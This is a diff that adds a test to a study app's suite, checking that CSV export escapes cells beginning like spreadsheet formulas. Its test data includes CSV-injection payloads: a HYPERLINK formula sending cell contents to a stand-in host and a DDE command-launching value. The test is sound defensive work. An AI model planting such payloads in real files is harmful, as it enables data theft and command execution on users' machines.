@@ -313,3 +313,39 @@ def test_colons_in_a_deck_title_never_nest_it_in_anki(
     terms = [n for n in names if n.startswith("StudyApp::Terms")]
     assert len(terms) == 2 and "StudyApp::Terms" in terms, names  # the family and the deck
     assert max(terms, key=len).count("::") == 2
+
+
+def test_csv_cells_that_start_like_a_formula_are_not_run_by_a_spreadsheet(
+    library: Library, tmp_path: Path
+) -> None:
+    # CSV injection: a spreadsheet opening the export ran a text starting with =, +, -, @
+    # (or tab, CR) as a formula ('=HYPERLINK("http://...")', '-2+3' shown as 1). OWASP's
+    # advice: a single quote before it, which the spreadsheet shows as text. (A CR cannot
+    # reach a card: the validator refuses it.)
+    texts = {
+        "f-equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "f-plus": "+1 for integration",
+        "f-minus": "-2+3",
+        "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "f-tab": "\tindented",
+        "f-plain": "5-HT2A = serotonin 2A receptor",
+    }
+    folder = tmp_path / "course"
+    folder.mkdir()
+    cards = "".join(
+        f"  - id: {card_id}\n    front: {json.dumps(text)}\n    back: A\n    source: zhou2024\n"
+        for card_id, text in texts.items()
+    )
+    header = "format_version: 1\ndeck: {id: formulas, title: Formulas, family: terms}\ncards:\n"
+    (folder / "deck.yaml").write_text(header + cards, encoding="utf-8")
+    plan = library.sync([folder])
+    assert plan.ok, plan.problems
+    out = tmp_path / "decks.csv"
+    export_csv(library.engine, out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = {row["id"]: row for row in csv.DictReader(handle)}
+    fronts = {card_id: rows[card_id]["front"] for card_id in texts}
+    assert fronts == {
+        card_id: text if card_id == "f-plain" else "'" + text for card_id, text in texts.items()
+    }
+    assert {row["back"] for row in rows.values()} == {"A"}
